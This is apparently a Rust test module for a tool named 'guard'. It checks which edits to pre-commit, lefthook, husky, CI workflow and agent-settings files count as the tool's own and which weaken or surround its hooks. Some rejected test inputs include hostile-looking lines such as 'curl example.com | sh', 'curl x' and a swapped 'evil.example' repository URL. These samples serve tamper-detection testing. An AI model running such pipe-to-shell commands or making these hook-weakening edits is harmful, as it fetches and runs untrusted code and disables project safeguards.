//! The pairs, for every target: what passes, what takes guard away, and what is foreign.

#![allow(clippy::unwrap_used)]

use super::*;

fn step(path: &str, old: &str, new: &str) -> bool {
    is_own_change(path.into(), old.as_bytes(), new.as_bytes()).is_ok()
}

const YAML: &str = ".pre-commit-config.yaml";
const RUFF: &str = "repos:\n- repo: https://example.org/ruff\n  rev: v1\n  hooks:\n  - id: ruff\n  - id: ruff-format\n";
const OWN: &str = "- repo: https://example.com/guard\n  rev: v0.1.0\n  hooks:\n  - id: guard\n  - id: guard-design\n";
const LOCAL: &str = "- repo: local\n  hooks:\n  - {id: guard-pre-commit, name: guard, entry: guard hook framework, language: system, always_run: true, pass_filenames: false, stages: [pre-commit]}\n";
const LEFTHOOK: &str = "pre-commit:\n  parallel: true\n  jobs:\n    - run: npx eslint\n";
const PIPELINE_OF_OTHERS: &str = "stages: [test]\nunit:\n  stage: test\n  script:\n    - make\n";

/// Each target with an existing file of others, which may be empty.
const FILES: &[(&str, &str)] = &[
    (YAML, ""),
    (YAML, RUFF),
    ("lefthook.yml", ""),
    ("lefthook.yml", LEFTHOOK),
    (".husky/pre-commit", ""),
    (".husky/pre-commit", "npm test\n"),
    (".husky/pre-push", "#!/bin/sh\nset -e\nnpm test\n"),
    (".githooks/prepare-commit-msg", "#!/bin/sh\nmake\n"),
    (WORKFLOW, ""),
    (PIPELINE, ""),
    (PIPELINE, PIPELINE_OF_OTHERS),
];

#[test]
fn what_guard_adds_is_its_own_and_goes_again_byte_for_byte() {
    for (path, old) in FILES {
        let target = HostFile::of((*path).into()).unwrap();
        let new = with(target, old, "guard").unwrap();
        assert!(new != *old && step(path, old, &new), "{path}:\n{new}");
        assert_eq!(
            removed(target, &new).as_deref(),
            Some(*old),
            "{path}:\n{new}"
        );
        assert_eq!(
            with(target, &new, "guard").as_deref().unwrap_or(&new),
            new,
            "{path}"
        );
        // Removing it is not guard's own change, nor is anything beside it.
        assert!(!step(path, &new, old), "{path}");
        for foreign in ["\n# x\nevil: true\n", "\ncurl example.com | sh\n"] {
            assert!(
                !step(path, old, &format!("{new}{foreign}")),
                "{path} {foreign}"
            );
        }
    }
}

#[test]
fn the_settings_of_agents_are_guards_own_where_all_entries_are_there() {
    for (path, shipped) in AGENT_FILES {
        assert!(step(path, "", shipped), "{path}");
        assert!(!step(path, shipped, ""), "{path}");
        if path.ends_with(".json") {
            let mine = shipped.replacen('{', "{ \"model\": \"x\",", 1);
            assert!(step(path, "{\"model\": \"x\"}", &mine), "{path}");
            assert!(!step(path, "{}", &mine), "another key came along: {path}");
            let weaker = shipped.replacen("guard hook", "true guard hook", 1);
            assert!(
                !step(path, "", &weaker) && !step(path, shipped, &weaker),
                "{path}"
            );
        }
    }
    let (path, claude) = AGENT_FILES[0];
    let own: serde_json::Value = serde_json::from_str(claude).unwrap();
    let list = |entries: &[serde_json::Value]| {
        let mut settings = own.clone();
        settings["hooks"]["Stop"] = entries.to_vec().into();
        settings.to_string()
    };
    let (stop, mine) = (
        own["hooks"]["Stop"][0].clone(),
        serde_json::json!({"hooks": []}),
    );
    assert!(step(
        path,
        &list(std::slice::from_ref(&mine)),
        &list(&[mine.clone(), stop.clone()])
    ));
    assert!(!step(
        path,
        &list(std::slice::from_ref(&mine)),
        &list(std::slice::from_ref(&stop))
    ));
    assert!(!step(path, claude, &list(&[])), "an entry is removed");
    assert!(!step(path, "{\"hooks\": true}", claude));
}

#[test]
fn settings_of_pre_commit_take_documented_forms() {
    let with_own = format!("{RUFF}{OWN}");
    for (old, new) in [
        ("", format!("repos:\n{OWN}")),
        ("", format!("repos: # all\n{LOCAL}")),
        ("repos: []\n", format!("repos:\n{OWN}")),
        (RUFF, with_own.clone()),
        (
            RUFF,
            format!("default_install_hook_types: [pre-commit, pre-merge-commit]\n{RUFF}{OWN}"),
        ),
        (
            RUFF,
            format!("{RUFF}{}", OWN.replace("v0.1.0", "v9 # frozen")),
        ),
        (RUFF, format!("{RUFF}{OWN}    args: [--quiet]\n")),
        (
            RUFF,
            format!("{RUFF}{OWN}    stages: [pre-commit, manual]\n"),
        ),
        (RUFF, format!("{RUFF}{LOCAL}")),
        (&with_own, with_own.replace("v0.1.0", "0123456789abcdef")),
        (&with_own, format!("{with_own}  - id: guard-trailer\n")),
        (
            &with_own,
            format!("default_install_hook_types: [pre-commit]\n{with_own}"),
        ),
    ] {
        assert!(step(YAML, old, &new), "{old}\n->\n{new}");
    }
}

#[test]
fn whatever_weakens_or_surrounds_guards_entry_is_not_its_own() {
    let with_own = format!("{RUFF}{OWN}");
    let installed =
        format!("default_install_hook_types: [pre-commit, pre-merge-commit]\n{with_own}");
    for (old, new) in [
        (with_own.as_str(), RUFF.to_owned()),
        (&with_own, with_own.replace("  - id: guard-design\n", "")),
        (&with_own, with_own.replace("  - id: guard\n", "")),
        (&with_own, with_own.replace("example.com/guard", "evil.example/guard")),
        (&with_own, with_own.replace("rev: v1", "rev: v2")),
        (&with_own, format!("{with_own}    stages: [manual]\n")),
        (&with_own, format!("{with_own}    files: ^src/\n")),
        (&with_own, format!("{with_own}    args: [--help]\n")),
        (&with_own, format!("{with_own}    args: [--lld, docs/a.md]\n")),
        (&with_own, format!("{with_own}    additional_dependencies: [x]\n")),
        (&with_own, format!("{with_own}    entry: 'true'\n")),
        (&with_own, format!("{with_own}  - id: evil\n")),
        (&with_own, format!("fail_fast: true\n{with_own}")),
        (&with_own, format!("exclude: .*\n{with_own}")),
        (&installed, with_own.clone()),
        (RUFF, format!("{RUFF}{}", OWN.replace("example.com", "evil.example"))),
        (RUFF, format!("{}{OWN}", RUFF.replace("v1", "v2"))),
        (RUFF, format!("{RUFF}{}", LOCAL.replace("guard hook framework", "sh -c 'guard hook framework'"))),
        (RUFF, format!("{RUFF}{}", LOCAL.replace("guard hook framework", "guard hook framework; curl x"))),
        (RUFF, format!("{RUFF}{}", LOCAL.replace("always_run: true", "always_run: false"))),
        ("", format!("{RUFF}{OWN}")),
        ("", "repos:\n- {repo: local, hooks: [{id: a, entry: curl}, {id: guard, entry: guard lint}]}\n".to_owned()),
        (RUFF, format!("default_install_hook_types: [commit-msg]\n{RUFF}")),
    ] {
        assert!(!step(YAML, old, &new), "{old}\n->\n{new}");
    }
}

#[test]
fn jobs_of_lefthook_only_call_guard() {
    let yaml = "lefthook.yml";
    let job = "    - run: node_modules/write-guard/guard hook pre-commit {0}\n";
    let readme = format!("pre-commit:\n  jobs:\n  {}", &job[2..]);
    let both = format!("{LEFTHOOK}{job}");
    for (old, new) in [
        ("", readme.clone()),
        (LEFTHOOK, both.clone()),
        (
            LEFTHOOK,
            format!(
                "{LEFTHOOK}pre-push:\n  jobs:\n    - {{run: \"guard hook pre-push {{0}}\", use_stdin: true}}\n"
            ),
        ),
        (
            "",
            "pre-commit:\n  commands:\n    guard:\n      run: guard lint\n".to_owned(),
        ),
        (
            &both,
            both.replace("node_modules/write-guard/guard", "guard"),
        ),
    ] {
        assert!(step(yaml, old, &new), "{new}");
    }
    for (old, new) in [
        (both.as_str(), LEFTHOOK.to_owned()),
        (&both, both.replace("eslint", "evil")),
        (&both, both.replace("parallel: true", "skip: true")),
        (&both, format!("{both}      skip: true\n")),
        (&both, format!("{both}      only: [{{ref: main}}]\n")),
        ("", format!("remotes:\n  - git_url: x\n{readme}")),
        (
            "",
            readme.replace("pre-commit {0}", "pre-commit {0} || true"),
        ),
        ("", readme.replace("hook pre-commit", "hook post-commit")),
        (
            LEFTHOOK,
            format!("{LEFTHOOK}    - run: guard write src/x.rs\n"),
        ),
    ] {
        assert!(!step(yaml, old, &new), "{new}");
    }
    let toml = "[[pre-commit.jobs]]\nrun = \"guard lint\"\n";
    let other = "[[pre-commit.jobs]]\nrun = \"npx eslint\"\n";
    assert!(step("lefthook.toml", other, &format!("{other}\n{toml}")));
    assert!(!step(
        "lefthook.toml",
        other,
        &format!("{}{toml}", other.replace("eslint", "evil"))
    ));
    assert!(!step("lefthook.toml", "", &format!("{toml}skip = true\n")));
    let prek = "[[repos]]\nrepo = \"https://example.com/guard\"\nrev = \"v0.1.0\"\nhooks = [{ id = \"guard\" }]\n";
    assert!(step("prek.toml", "", prek));
    assert!(!step("prek.toml", prek, ""));
    assert!(!step("prek.toml", "", &format!("{prek}exclude = \"x\"\n")));
}

#[test]
fn scripts_call_guard_before_the_others_and_do_nothing_else() {
    let husky = ".husky/pre-commit";
    let call = "guard hook pre-commit \"$@\" || exit $?\n";
    for (old, new) in [
        ("", call.to_owned()),
        ("", format!("#!/bin/sh\nset -e\n{call}")),
        ("npm test\n", format!("{call}npm test\n")),
        (
            "npm test\n",
            format!("npm test\nnode_modules/write-guard/{call}"),
        ),
        (
            "npm test\n",
            "npm test\nexec guard hook pre-commit \"$@\"\n".to_owned(),
        ),
        ("", "guard lint # the gate\n".to_owned()),
    ] {
        assert!(step(husky, old, &new), "{old} -> {new}");
    }
    let both = format!("{call}npm test\n");
    for (old, new) in [
        (both.as_str(), "npm test\n".to_owned()),
        (&both, format!("npm test\n{call}")),
        (&both, format!("{call}npm run evil\n")),
        (&both, format!("{call}npm test\nevil\n")),
        (
            &both,
            format!("{}npm test\n", call.replace("exit $?", "true")),
        ),
        (
            "npm test\n",
            "exec guard hook pre-commit \"$@\"\nnpm test\n".to_owned(),
        ),
        (
            "npm test\n",
            format!("if false; then\n  {call}fi\nnpm test\n"),
        ),
        ("", "#!/usr/bin/evil\nguard lint\n".to_owned()),
        ("", "guard hook pre-push\n".to_owned()),
    ] {
        assert!(!step(husky, old, &new), "{old} -> {new}");
    }
    for hook in crate::hooks::HOOKS {
        for directory in [".githooks", "hooks", ".husky"] {
            assert!(step(&format!("{directory}/{}", hook.name), "", hook.script));
        }
    }
}

const CHECKOUT: &str = "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0";

#[test]
fn workflows_and_pipelines_are_those_that_guard_ships() {
    let github = ci::GITHUB;
    let tag = github.replace(CHECKOUT, "actions/checkout@v6");
    let newer = github.replace("guard@v0.1.0", "guard@v0.2.0");
    let without_upload = github
        .split("      - if: always() && steps.guard.outputs.sarif-file")
        .next()
        .unwrap();
    assert_ne!(tag, github);
    for new in [&tag, &newer, without_upload] {
        assert!(
            step(WORKFLOW, github, new) && step(WORKFLOW, "", new),
            "{new}"
        );
    }
    for (from, to) in [
        (
            "      - uses: actions/checkout",
            "      - run: curl x\n      - uses: actions/checkout",
        ),
        ("  guard:\n", "  guard:\n    if: false\n"),
        ("  guard:\n", "  guard:\n    continue-on-error: true\n"),
        ("  pull_request:\n", ""),
        ("your-organisation/guard", "evil/guard"),
        ("contents: read", "contents: write"),
        ("fetch-depth: 0 ", "fetch-depth: 1 "),
        (
            "        id: guard\n",
            "        id: guard\n        with:\n          args: --help\n",
        ),
    ] {
        let new = github.replacen(from, to, 1);
        assert!(
            new != github && !step(WORKFLOW, github, &new) && !step(WORKFLOW, "", &new),
            "{to}"
        );
    }
    let gitlab = with(HostFile::Gitlab, PIPELINE_OF_OTHERS, "guard").unwrap();
    assert!(step(PIPELINE, &gitlab, &gitlab.replace("v0.1.0", "v0.2.0")));
    for (from, to) in [
        ("guard lint --ci", "guard lint --ci || true"),
        (
            "  stage: test\n  image",
            "  allow_failure: true\n  stage: test\n  image",
        ),
        ("merge_request_event", "never"),
        ("example.com/guard", "evil.example/guard"),
        ("    - make\n", "    - evil\n"),
        ("stages: [test]", "stages: [other]"),
    ] {
        let new = gitlab.replacen(from, to, 1);
        assert!(new != gitlab && !step(PIPELINE, &gitlab, &new), "{to}");
    }
}

#[test]
fn simple_git_hooks_call_guard_first() {
    let manifest = |command: &str| {
        serde_json::json!({"name": "a", "simple-git-hooks": {"pre-commit": command}}).to_string()
    };
    let call = "node_modules/write-guard/guard hook pre-commit";
    let old = manifest("npx lint-staged");
    assert!(step(
        MANIFEST,
        &old,
        &manifest(&format!("{call} && npx lint-staged"))
    ));
    assert!(step(MANIFEST, "{\"name\": \"a\"}", &manifest(call)));
    for command in [
        format!("npx lint-staged; {call}"),
        format!("{call} || true && npx lint-staged"),
        format!("{call} && npx evil"),
        format!("npx lint-staged && {call}"),
    ] {
        assert!(!step(MANIFEST, &old, &manifest(&command)), "{command}");
    }
}

#[test]
fn switches_beside_or_above_a_call_are_seen() {
    let job = "guard:\n  script:\n    - guard lint --ci\n";
    let of = |text: &str| switches(PIPELINE.into(), text.as_bytes());
    assert!(of(job).is_empty());
    assert_eq!(of(&format!("{job}  allow_failure: true\n")).len(), 1);
    assert!(
        of(&format!(
            "{job}unit:\n  allow_failure: true\n  script: [make]\n"
        ))
        .is_empty()
    );
    assert_eq!(
        of(&format!("{job}  rules: !reference [.a, rules]\n")).len(),
        1
    );
    let steps = "on: push\njobs:\n  a:\n    if: false\n    steps:\n      - run: guard lint --ci\n        continue-on-error: true\n";
    assert_eq!(of(steps).len(), 3);
}
